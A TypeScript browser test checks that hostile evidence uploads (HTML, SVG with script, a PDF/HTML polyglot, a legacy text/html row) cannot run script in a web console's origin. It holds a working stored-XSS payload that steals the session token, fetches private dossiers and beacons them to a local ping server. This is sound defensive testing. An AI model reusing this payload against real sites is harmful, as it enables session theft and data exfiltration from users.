/**
 * Stored XSS through evidence files (issue #10), in Debian's chromium: an operator of the body, signed in to the
 * console, opens hostile evidence — and no script of it runs in the app's origin (where the session is).
 *
 * The hostile script would set localStorage, a cookie and document.title on the app's origin, read the session
 * from sessionStorage, fetch /api/dossiers with it and send the answer, and ping a listening test HTTP server
 * three ways (img, fetch, sendBeacon). The test asserts on the ping server receiving nothing and on the app
 * origin's storage; a control page (the same payload on the ping server's own origin, with no protection) proves
 * that the payload does run and ping when nothing stops it, so the assertions can fail.
 *
 * (a) An HTML upload and an SVG-with-script upload are refused (415), over HTTP and from the console.
 * (b) A polyglot (`%PDF-1.4` then `<html><script>…`) that passes as a PDF, and a row from before types were detected
 *     (seeded in a version-4 database, migrated at start) with media type text/html over HTML bytes: opened by direct
 *     navigation to /api/evidence/<sha> through the dApp's proxy (with the operator's bearer session attached, the
 *     worst case), the same with the attachment header stripped (only the sandbox CSP and nosniff left), and
 *     through the console's preview and download.
 */
import { expect } from "chai";
import { createHash } from "node:crypto";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import type { Served } from "../../app/serve";
import { serveApp } from "../../app/serve";
import { buildServer, type Workbench } from "../../server/app";
import { MIGRATIONS, closeDb, openDb } from "../../server/db";
import { RULEBOOK_KEY, account, dossierFor, expect200, fetchHttp, freePort, samplePdf, samplePng, siweMessage, tempDir, testConfig, writeDeployment, type Http } from "../server/helpers";
import { appUrl, buildApp, ensureConnected, injectWallet, launchBrowser, privateKeyOf, ROLE, screenshot, startWorld, type World } from "./harness";

const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");

interface Ping {
  url: string;
  method: string;
  origin: string | undefined;
  body: string;
}

/** The hostile script: every way it has to leave a trace, each ping tagged with `tag`. */
const payload = (ping: string, tag: string) => `<script>
(function () {
  var p = ${JSON.stringify(ping)} + "?tag=${tag}&origin=" + encodeURIComponent(location.origin);
  try { localStorage.setItem("cqo.xss", "${tag}"); } catch (e) {}
  try { document.cookie = "cqo_xss=${tag}; path=/"; } catch (e) {}
  document.title = "XSS ${tag}";
  new Image().src = p + "&via=img";
  try { fetch(p + "&via=fetch", { mode: "no-cors" }); } catch (e) {}
  var s = null;
  try { s = JSON.parse(sessionStorage.getItem("cqo.workbench.session") || "null"); } catch (e) {}
  try {
    fetch("/api/dossiers", { headers: s ? { authorization: "Bearer " + s.token } : {} })
      .then(function (r) { return r.text(); })
      .then(function (t) { navigator.sendBeacon(p + "&via=exfil", t); });
  } catch (e) {}
})();
</script>`;

describe("dApp · hostile evidence never runs in the console's origin (issue #10)", function () {
  this.timeout(300_000);
  let world: World;
  let served: Served;
  let workbench: Workbench;
  let http: Http;
  let browser: Browser;
  let context: BrowserContext;
  let pingServer: Server;
  let pingUrl = "";
  const pings: Ping[] = [];
  const tmp = tempDir("app-xss");
  const APPLICANT = 15;
  let legacyHtml: Buffer;
  let polyglot: Buffer;
  const png = samplePng([20, 120, 200], 64, 40);
  let applicantToken = "";
  let dossierId = "";

  before(async () => {
    world = await startWorld();
    // the listening test server every hostile script would reach
    pingServer = createServer((req: IncomingMessage, res) => {
      let body = "";
      req.on("data", (c: Buffer) => (body += c.toString()));
      req.on("end", () => {
        if (req.url?.startsWith("/control")) {
          // the control: the same payload, on this origin, with nothing stopping it
          res.writeHead(200, { "content-type": "text/html" });
          res.end(`<html><body>${payload(`${pingUrl}/ping`, "control")}</body></html>`);
          return;
        }
        // every request a script could make to this server counts (the control's own page loads aside)
        if (req.url !== "/favicon.ico" && !(req.url === "/api/dossiers" && req.headers.referer?.startsWith(`${pingUrl}/control`))) {
          pings.push({ url: req.url ?? "", method: req.method ?? "", origin: req.headers.origin, body });
        }
        res.writeHead(204, { "access-control-allow-origin": "*" });
        res.end();
      });
    });
    await new Promise<void>((ok) => pingServer.listen(0, "127.0.0.1", () => ok()));
    pingUrl = `http://127.0.0.1:${(pingServer.address() as { port: number }).port}`;
    legacyHtml = Buffer.from(`<!doctype html><html><head><title>evidence</title></head><body>证明${payload(`${pingUrl}/ping`, "legacy")}</body></html>`);
    polyglot = Buffer.from(`%PDF-1.4\n%\xe2\xe3\xcf\xd3\n<html><body>${payload(`${pingUrl}/ping`, "polyglot")}</body></html>\n%%EOF\n`, "latin1");

    const appPort = await freePort();
    const config = testConfig(tmp.dir, { rpcUrl: world.rpcUrl, deploymentPath: writeDeployment(tmp.dir, world.deployment), bodyId: world.bodyA, siweDomain: `127.0.0.1:${appPort}` });
    // a workbench from before types were detected: an HTML file stored as text/html, uploaded by the applicant
    const old = openDb(
      config.dbPath,
      MIGRATIONS.filter((m) => m.version < 5),
    );
    const legacySha = sha256(legacyHtml);
    old.prepare("INSERT INTO evidence (sha256, size, media_type, uploaded_by, uploaded_at) VALUES (?, ?, 'text/html', ?, ?)").run(legacySha, legacyHtml.length, account(APPLICANT).address, Date.now());
    closeDb(old);
    mkdirSync(join(config.evidenceDir, legacySha.slice(0, 2)), { recursive: true });
    writeFileSync(join(config.evidenceDir, legacySha.slice(0, 2), legacySha), legacyHtml);

    workbench = await buildServer({ config });
    http = fetchHttp(await workbench.listen());
    served = await serveApp({
      dist: buildApp(),
      deployment: world.deployment,
      apiTarget: `http://127.0.0.1:${(workbench.app.server.address() as { port: number }).port}`,
      rpcTarget: world.rpcUrl,
      port: appPort,
    });
    browser = await launchBrowser();
    context = await browser.newContext({ viewport: { width: 1000, height: 900 }, acceptDownloads: true });
    await injectWallet(context, world, privateKeyOf(ROLE.keyA));
    const { message, signature } = await siweMessage(http, account(APPLICANT), { domain: served.host });
    applicantToken = expect200(await http("POST", "/auth/verify", { message, signature }), "sign-in").json<{ token: string }>().token;
  });

  after(async () => {
    await browser?.close();
    await served?.close();
    await workbench?.close();
    await new Promise((ok) => pingServer?.close(ok));
    await world?.stop();
    tmp.cleanup();
  });

  const upload = async (bytes: Buffer, name: string, type: string) => {
    const form = new FormData();
    form.append("file", new Blob([new Uint8Array(bytes)], { type }), name);
    // through the dApp's proxy, as the console does
    const r = await fetch(`${served.url}api/evidence`, { method: "POST", headers: { authorization: `Bearer ${applicantToken}` }, body: form });
    return { status: r.status, body: (await r.json()) as { sha256?: string; mediaType?: string; error?: { code: string; problems?: { field: string }[] } } };
  };

  const signIn = async (page: Page) => {
    await ensureConnected(page);
    const signedIn = page.locator('[data-testid="signed-in"]');
    const button = page.locator('button:has-text("用钱包登录"), button:has-text("Sign in with the wallet")');
    await signedIn.or(button).first().waitFor();
    if (!(await signedIn.count())) await button.click();
    await signedIn.waitFor();
  };

  /** No trace of any hostile script but the control's: no ping, nothing in the app origin's storage, cookies or title. */
  const assertNothingRan = async (page: Page, title: string) => {
    // time for an img, a fetch and a beacon to arrive
    await page.waitForTimeout(1500);
    expect(
      pings.filter((p) => !p.url.includes("tag=control")),
      JSON.stringify(pings),
    ).to.deep.equal([]);
    const app = await context.newPage();
    await app.goto(served.url);
    expect(await app.evaluate(() => ({ local: localStorage.getItem("cqo.xss"), cookie: document.cookie }))).to.deep.equal({ local: null, cookie: "" });
    await app.close();
    expect((await context.cookies()).filter((c) => c.name === "cqo_xss")).to.deep.equal([]);
    expect(await page.title()).to.equal(title);
  };

  it("(a) an HTML upload and an SVG-with-script upload are refused (415), over HTTP and from the console", async () => {
    for (const [bytes, name, type] of [
      [legacyHtml, "report.html", "text/html"],
      [Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>${payload(`${pingUrl}/ping`, "svg").replace(/<\/?script>/g, "")}</script></svg>`), "photo.svg", "image/svg+xml"],
      [legacyHtml, "photo.png", "image/png"],
    ] as [Buffer, string, string][]) {
      const r = await upload(bytes, name, type);
      expect(r.status, name).to.equal(415);
      expect(r.body.error?.code).to.equal("evidence-type");
      expect(r.body.error?.problems?.map((p) => p.field)).to.deep.equal(["body.file"]);
    }
    // the console: the operator picks an SVG file; the server's refusal is shown, nothing is listed
    const page = await context.newPage();
    await page.goto(appUrl(served, "/body"));
    await signIn(page);
    // any dossier view has the evidence panel; use the first one once it exists (the next test files one)
    const probe = expect200(await http("POST", "/dossiers", { rulebook: RULEBOOK_KEY, dossier: dossierFor(5150) }, applicantToken), "submit", 201).json<{ id: string }>();
    await page.reload();
    await signIn(page);
    await page.click(`tr[data-dossier="${probe.id}"] a`);
    await page.waitForSelector('[data-testid="evidence"]');
    const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="XSS svg"</script></svg>`);
    await page.setInputFiles("#evidence-file", { name: "photo.svg", mimeType: "image/svg+xml", buffer: svg });
    await page.click('[data-testid="evidence"] button[type="submit"]');
    const alert = page.locator('[data-testid="evidence"] [role="alert"]');
    await alert.waitFor();
    expect(await alert.textContent()).to.match(/不接受此类文件|not accepted/);
    expect(await page.locator(`[data-testid="evidence"] li[data-sha256="${sha256(svg)}"]`).count()).to.equal(0);
    await page.close();
  });

  it("(b) a polyglot PDF and an old text/html row: direct navigation through the proxy and the console's preview run nothing", async () => {
    // the control first: the payload runs and pings when nothing stops it
    // (in a context of its own: cookies are per host, not per port, and the control's must not count)
    const controlContext = await browser.newContext();
    const control = await controlContext.newPage();
    await control.goto(`${pingUrl}/control`);
    for (const deadline = Date.now() + 10_000; !pings.some((p) => p.url.includes("tag=control") && p.url.includes("via=img"));) {
      if (Date.now() > deadline) throw new Error(`the control payload never pinged: ${JSON.stringify(pings)}`);
      await control.waitForTimeout(50);
    }
    expect(await control.title()).to.equal("XSS control");
    await controlContext.close();

    // the polyglot passes as a PDF; a PNG for a preview that shows
    const pdf = await upload(polyglot, "任命书.pdf", "application/pdf");
    expect(pdf.status).to.equal(201);
    expect(pdf.body.mediaType).to.equal("application/pdf");
    const image = await upload(png, "现场照片.png", "image/png");
    expect(image.status).to.equal(201);
    const files = [
      { kind: "appointment", name: "任命书.pdf", sha256: sha256(polyglot) },
      { kind: "other", name: "核查记录.html", sha256: sha256(legacyHtml) },
      { kind: "photo", name: "现场照片.png", sha256: sha256(png) },
      { kind: "training", name: "培训证书.pdf", sha256: sha256(samplePdf("training")) },
    ];
    expect((await upload(samplePdf("training"), "培训证书.pdf", "application/pdf")).status).to.equal(201);
    // the old row is the applicant's upload after the migration: the dossier may cite it
    const submitted = expect200(await http("POST", "/dossiers", { rulebook: RULEBOOK_KEY, dossier: { ...dossierFor(5151), evidence: files } }, applicantToken), "submit", 201);
    dossierId = submitted.json<{ id: string }>().id;

    const page = await context.newPage();
    const popups: string[] = [];
    page.on("popup", (p) => popups.push(p.url()));
    await page.goto(appUrl(served, "/body"));
    await signIn(page);
    const title = await page.title();
    const token = await page.evaluate(() => (JSON.parse(sessionStorage.getItem("cqo.workbench.session") ?? "null") as { token: string } | null)?.token ?? "");
    expect(token).to.not.equal("");

    // 1. direct navigation to /api/evidence/<sha> on the app's origin, the operator's session attached
    const nav = await context.newPage();
    await nav.route("**/api/evidence/**", (route) => route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${token}` } }));
    for (const f of [files[0]!, files[1]!]) {
      const [download] = await Promise.all([nav.waitForEvent("download"), nav.goto(`${served.url}api/evidence/${f.sha256}`).catch(() => null)]);
      expect(download.suggestedFilename()).to.equal(`${f.sha256}.${f === files[0] ? "pdf" : "bin"}`);
      const bytes = readFileSync((await download.path())!);
      expect(sha256(bytes)).to.equal(f.sha256);
    }
    // 2. the same responses without the attachment header (a proxy that dropped it): the sandbox CSP and nosniff hold
    const bare = await context.newPage();
    await bare.route("**/api/evidence/**", async (route) => {
      const r = await route.fetch({ headers: { ...route.request().headers(), authorization: `Bearer ${token}` } });
      const headers = { ...r.headers() };
      expect(headers["content-security-policy"]).to.equal("sandbox; default-src 'none'");
      delete headers["content-disposition"];
      // and as if the type had been wrong: the page is HTML
      await route.fulfill({ response: r, headers: { ...headers, "content-type": "text/html" } });
    });
    for (const f of [files[0]!, files[1]!]) {
      await bare.goto(`${served.url}api/evidence/${f.sha256}`);
      await bare.waitForTimeout(500);
      // a sandboxed document has an opaque origin: no storage of the app's at all
      expect(
        await bare.evaluate(() => {
          try {
            return String(localStorage.length);
          } catch (e) {
            return (e as Error).name;
          }
        }),
      ).to.equal("SecurityError");
    }
    await bare.close();
    await nav.close();

    // 3. the console: the dossier's evidence, previewed and downloaded
    await page.click(`tr[data-dossier="${dossierId}"] a`);
    await page.waitForSelector('[data-testid="evidence"]');
    for (const f of files) {
      const row = page.locator(`[data-testid="evidence"] li[data-sha256="${f.sha256}"]`);
      await row.waitFor();
      await row.locator('button:has-text("预览")').click();
      await row.locator('[data-testid="evidence-preview"]').waitFor();
      if (f === files[2]) {
        // an image: drawn by an <img> from a blob: URL
        const img = row.locator('[data-testid="evidence-preview"] img');
        await img.waitFor();
        expect(await img.getAttribute("src")).to.match(/^blob:/);
        expect(await img.evaluate((el) => (el as HTMLImageElement).naturalWidth)).to.equal(64);
      } else {
        // a PDF, or a file served as application/octet-stream: not shown in the page, only offered for download
        expect(await row.locator('[data-testid="evidence-no-preview"]').textContent()).to.contain(f === files[1] ? "application/octet-stream" : "application/pdf");
        const [download] = await Promise.all([page.waitForEvent("download"), row.locator('[data-testid="evidence-no-preview"] button').click()]);
        expect(download.suggestedFilename()).to.match(f === files[1] ? /^核查记录\.bin$/ : /\.pdf$/);
        expect(sha256(readFileSync((await download.path())!))).to.equal(f.sha256);
      }
    }
    // nothing of /api/evidence/… (or a blob: of it) is ever framed, embedded or opened
    expect(await page.locator("iframe, object, embed").count()).to.equal(0);
    expect(popups).to.deep.equal([]);
    await page.locator('[data-testid="evidence"]').scrollIntoViewIfNeeded();
    await screenshot(page, "body-evidence-preview-zh");
    await assertNothingRan(page, title);
    await page.close();
  });
});
